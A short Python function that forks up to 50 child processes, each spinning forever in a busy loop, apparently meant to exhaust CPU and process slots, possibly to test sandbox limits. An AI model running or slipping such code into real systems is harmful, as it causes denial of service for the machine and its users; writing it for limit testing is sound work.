import os


def spawn(x):
    started = 0
    for _ in range(50):
        try:
            if os.fork() == 0:
                while True:
                    pass
            started += 1
        except OSError:
            pass
    return started
